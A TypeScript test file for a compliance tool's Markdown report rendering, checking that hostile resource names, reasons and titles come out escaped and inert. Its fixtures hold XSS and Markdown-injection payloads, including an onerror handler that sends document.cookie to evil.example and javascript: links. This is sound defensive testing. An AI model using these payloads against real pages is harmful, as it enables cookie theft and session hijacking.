import { join } from "node:path";
import fc from "fast-check";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { ANNEX_A } from "../../controls/annex-a.js";
import { REPORT_REGISTRY } from "../../app/registry.js";
import { buildReport } from "../../reports/build.js";
import { renderMarkdown } from "../../reports/markdown.js";
import { mdCode, mdText } from "../../reports/markdown-text.js";
import { buildPeriodReport, renderPeriodMarkdown } from "../../reports/period.js";
import type { Finding, RiskException } from "../../src/domain.js";
import { emptyCounts } from "../../src/engine/rollup.js";
import { openSqliteStore, type SqliteStore } from "../../src/store/sqlite.js";
import { tempDir } from "../helpers.js";

/** What a CommonMark renderer makes of escaped inline text: backslash escapes and the three entities undone. */
function unescapeMarkdown(md: string): string {
  return md.replace(
    /\\([!-/:-@[-`{-~])|&(amp|lt|gt);/g,
    (_all, punct: string | undefined, entity: string | undefined) => punct ?? (entity === "amp" ? "&" : entity === "lt" ? "<" : ">"),
  );
}

/** Metacharacters left without a backslash in front (an even run of backslashes escapes nothing). */
function unescaped(md: string, chars: string): string[] {
  const hits: string[] = [];
  for (let i = 0; i < md.length; i++) {
    const ch = md[i] ?? "";
    if (!chars.includes(ch)) continue;
    let slashes = 0;
    for (let j = i - 1; j >= 0 && md[j] === "\\"; j--) slashes++;
    if (slashes % 2 === 0) hits.push(`${ch} at ${i} in ${JSON.stringify(md)}`);
  }
  return hits;
}

const HOSTILE = [
  "<script>alert(document.cookie)</script>",
  '<img src=x onerror="fetch(`http://evil.example/`+document.cookie)">',
  "![pixel](http://evil.example/track.png)",
  "[click here](javascript:alert(1))",
  "see https://evil.example/login and www.evil.example",
  "**bold** _em_ `code` ~~gone~~ | extra | cells |",
  "# heading",
  "line one\nline two\r\n- list item",
  "AT&T &lt;not an entity&gt; \\*",
];

describe("Markdown text escaping", () => {
  it("leaves plain resource names and sentences readable", () => {
    expect(mdText("User carol.sales has a console password but no MFA device.")).toBe("User carol.sales has a console password but no MFA device.");
    expect(mdText("arn:aws:iam::123456789012:user/erin.contractor")).toBe("arn:aws:iam::123456789012:user/erin.contractor");
  });

  it("turns HTML, links, images, emphasis, code, table pipes and block markers into inert text", () => {
    expect(mdText("<script>alert(1)</script>")).toBe("&lt;script&gt;alert\\(1\\)&lt;/script&gt;");
    expect(mdText("![x](http://evil/a.png)")).toBe("\\!\\[x\\]\\(http\\://evil/a.png\\)");
    expect(mdText("a|b")).toBe("a\\|b");
    expect(mdText("# title")).toBe("\\# title");
    expect(mdText("- item")).toBe("\\- item");
    expect(mdText("12. item")).toBe("12\\. item");
    expect(mdText("go to www.evil.example")).toBe("go to www\\.evil.example");
    expect(mdText("a\nb\r\nc")).toBe("a b c");
  });

  it("for any text: one line, no raw HTML, no live metacharacter, and it reads back as the text", () => {
    fc.assert(
      fc.property(fc.string({ unit: fc.constantFrom(..."<>&\\`*_[]()!|~$#-+=.:/w 1a\n\r"), maxLength: 40 }), (text) => {
        const md = mdText(text);
        expect(md).not.toMatch(/[\r\n<>]/);
        expect(unescaped(md, "`*_[]()!|~$")).toEqual([]);
        // The colon of a scheme and the dot after www are what GFM autolinks on: escaped.
        expect(unescaped(md, ":").filter((hit) => md.startsWith("://", Number(/ at (\d+) in /.exec(hit)?.[1])))).toEqual([]);
        expect(md).not.toMatch(/www\./i);
        expect(md).not.toMatch(/^\s*([#+\-=]|\d+[.)])/);
        expect(unescapeMarkdown(md)).toBe(text.replace(/\r\n|\r|\n/g, " "));
      }),
      { numRuns: 20000 },
    );
  });

  it("a code span holds any id literally, with a fence longer than its backticks", () => {
    expect(mdCode("aws.iam.console-user-mfa")).toBe("`aws.iam.console-user-mfa`");
    expect(mdCode("a`b")).toBe("``a`b``");
    expect(mdCode("`x")).toBe("`` `x ``");
    expect(mdCode("a|b")).toBe("`a\\|b`");
  });
});

describe("report.md and period.md with hostile names", () => {
  const dir = tempDir();
  let store: SqliteStore;
  let md = "";
  let periodMd = "";
  const day = "2026-03-02";

  beforeAll(async () => {
    store = await openSqliteStore({ file: join(dir.path, "evidence.db") });
    const organization = `Evil <script>x</script> Corp ![o](http://evil.example/o.png)`;
    const run = await store.startRun({ organization, startedAt: `${day}T01:00:00.000Z`, sources: ["prod"] });
    const scope = { source: "prod", sourceType: "aws" as const, account: "123456789012", region: "global" };
    await store.saveCollectorResult(
      run.id,
      {
        ...scope,
        collector: "aws.iam",
        status: "error",
        error: `API said: ${HOSTILE.join(" ")}`,
        startedAt: `${day}T01:00:00.000Z`,
        finishedAt: `${day}T01:00:01.000Z`,
        produces: [],
      },
      [],
    );
    const finding = (resourceId: string, status: Finding["status"], reason: string): Finding => ({
      ...scope,
      checkId: "aws.iam.console-user-mfa",
      resourceId,
      status,
      reason,
      evidenceSha256: null,
      controls: null,
    });
    const findings: Finding[] = [
      ...HOSTILE.map((name) => finding(`arn:aws:iam::123456789012:user/${name}`, "fail", `User ${name} has a console password but no MFA device.`)),
      finding("arn:aws:iam::123456789012:user/<img src=x onerror=alert(2)>", "error", "Could not judge ![e](http://evil.example/e.png)."),
      {
        ...finding("arn:aws:iam::123456789012:user/[x](http://evil.example/x)", "excepted", "User <b>x</b> has no MFA."),
        exception: {
          id: "EXC-1",
          reason: "<script>accept()</script>",
          owner: "[o](http://evil.example/o)",
          approvedBy: "![a](http://evil.example/a.png)",
          expires: "2027-01-01",
        },
      },
    ];
    await store.finishRun(run.id, {
      status: "partial",
      finishedAt: `${day}T01:05:00.000Z`,
      findings,
      controls: [
        {
          controlId: "A.8.5",
          status: "fail",
          coverage: "partial",
          checks: ["aws.iam.console-user-mfa"],
          counts: { ...emptyCounts(), fail: HOSTILE.length },
          justification: null,
        },
      ],
      objectives: [
        {
          objectiveId: "mfa",
          title: "MFA <script>for</script> ![all](http://evil.example/all.png)",
          owner: "<img src=x onerror=alert(3)>",
          metric: "mfa_enrolment",
          value: 50,
          numerator: 1,
          denominator: 2,
          errors: 0,
          target: 100,
          deadline: "2027-03-31",
          status: "on_track",
          measuredAt: `${day}T01:05:00.000Z`,
        },
      ],
      error: "Collector failed: <script>bad()</script> [x](http://evil.example/x)",
    });
    const exception: RiskException = {
      id: "EXC-1",
      checkId: "aws.iam.console-user-mfa",
      resource: "*<script>r()</script>*",
      source: null,
      account: null,
      reason: "Accepted ![r](http://evil.example/r.png) <img src=x onerror=alert(4)>",
      owner: "[owner](http://evil.example/owner)",
      approvedBy: "**CISO** <b>x</b>",
      expires: "2027-01-01",
      origin: "register",
      createdAt: `${day}T00:00:00.000Z`,
    };
    await store.addException(exception);
    md = renderMarkdown(await buildReport(store, run.id, { maxAgeHours: () => 48, registry: REPORT_REGISTRY }));
    periodMd = renderPeriodMarkdown(await buildPeriodReport(store, day, day, 48, ANNEX_A));
  });
  afterAll(async () => {
    await store.close();
    dir.cleanup();
  });

  for (const [name, text] of [
    ["report.md", () => md],
    ["period.md", () => periodMd],
  ] as const) {
    it(`${name} carries no live HTML, image, link or autolink from a name, reason, title, owner or error`, () => {
      const out = text();
      expect(out).toContain("evil.example");
      for (const raw of ["<script", "</script", "<img", "<b>", "![", "](http", "](javascript", "http://", "https://", "www.evil"]) {
        expect(out, `${name} holds ${raw}`).not.toContain(raw);
      }
    });
  }

  it("report.md still shows each hostile name, escaped, and keeps every table row to its columns", () => {
    expect(md).toContain("&lt;script&gt;alert\\(document.cookie\\)&lt;/script&gt;");
    expect(md).toContain("Evil &lt;script&gt;x&lt;/script&gt; Corp");
    const findingRows = md.split("\n").filter((line) => line.startsWith("| `aws.iam.console-user-mfa` |"));
    expect(findingRows).toHaveLength(HOSTILE.length + 2);
    // A row of the findings table has 5 cells: 6 unescaped pipes.
    for (const row of findingRows) expect(unescaped(row, "|")).toHaveLength(6);
    // Nothing hostile starts a line of its own (a heading or list item of its choosing).
    expect(md.split("\n").filter((line) => /heading|list item|line two/.test(line) && !/^(\||- |### |> )/.test(line))).toEqual([]);
  });
});
